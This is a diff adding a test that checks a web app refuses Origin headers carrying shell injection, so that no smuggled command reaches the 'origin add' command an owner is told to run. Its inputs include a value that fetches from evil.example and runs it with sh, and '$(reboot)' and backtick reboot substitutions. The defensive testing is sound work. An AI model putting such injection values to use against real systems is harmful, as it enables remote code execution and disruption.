@@ -226,6 +226,34 @@ describe('pages that ask', () => {
     assert.deepEqual((await read()).asking, []);
     await get(ENDPOINTS.origins(PARTY), { headers: bearer((await host('moderator', 'Mo')).token) }, 403);
   });
+
+  it('write no command of their own into the one that an owner is told to run', async (t) => {
+    const { app, get, host } = await startParty(t);
+    const ann = await host('owner');
+    for (const origin of [
+      'http://x;{wget,evil.example};{sh,index.html}',
+      'http://a$(reboot).example',
+      'http://a`reboot`.example',
+      'https://a&b.example',
+      "https://a'b.example",
+    ]) {
+      const refused = await app.inject({ url: ENDPOINTS.topic(PARTY, TOPIC), headers: { origin } });
+      assert.equal(refused.statusCode, 403);
+      assert.doesNotMatch(refused.json<ErrorBody>().details ?? '', /origin add/);
+    }
+    for (const origin of [
+      'http://[::1]:3000',
+      'https://my_shop.example:8443',
+      'https://xn--bcher-kva.example',
+    ]) {
+      const refused = await app.inject({ url: ENDPOINTS.topic(PARTY, TOPIC), headers: { origin } });
+      assert.match(refused.json<ErrorBody>().details ?? '', /origin add/);
+    }
+    const { asking } = (
+      await get(ENDPOINTS.origins(PARTY), { headers: bearer(ann.token) })
+    ).json<OriginsView>();
+    assert.equal(asking.length, 3);
+  });
 });
 
 describe('a guest who left an address', () => {
